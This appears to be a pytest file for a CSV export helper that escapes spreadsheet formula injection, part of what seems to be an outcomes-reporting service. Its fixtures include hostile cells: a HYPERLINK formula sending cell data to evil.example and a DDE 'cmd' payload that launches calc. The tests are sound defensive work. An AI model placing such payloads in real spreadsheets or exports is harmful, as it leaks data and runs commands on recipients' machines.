"""CSV exports never hand a spreadsheet a formula: text that starts like one is written as text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from services.outcomes.service_layer import reports
from shared.platform.spreadsheet import safe_cell


@pytest.mark.parametrize(("typed", "written"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Hackney GP", "Hackney GP"),
    ("a=b", "a=b"),
    ("", ""),
])
def test_text_that_starts_like_a_formula_is_written_as_text(typed, written):
    assert safe_cell(typed) == written


@pytest.mark.parametrize("number", [-3.0, -4, Decimal("-0.5"), 0, 12.5, None, True])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) is number


def test_the_outcomes_csv_neutralises_a_group_named_like_a_formula_and_keeps_negative_numbers():
    report = {"groups": [
        {"group": '=HYPERLINK("http://evil.example","Hackney")', "paired": 3, "mean_change": -3.0,
         "reasons": ["-a", "b"]},
        {"group": "self-referral", "paired": 2, "mean_change": -1.5, "reasons": []},
    ]}
    rows = list(csv.reader(io.StringIO(reports.to_csv(report))))
    assert rows == [
        ["group", "paired", "mean_change", "reasons"],
        ['\'=HYPERLINK("http://evil.example","Hackney")', "3", "-3.0", "'-a;b"],
        ["self-referral", "2", "-1.5", ""],
    ]
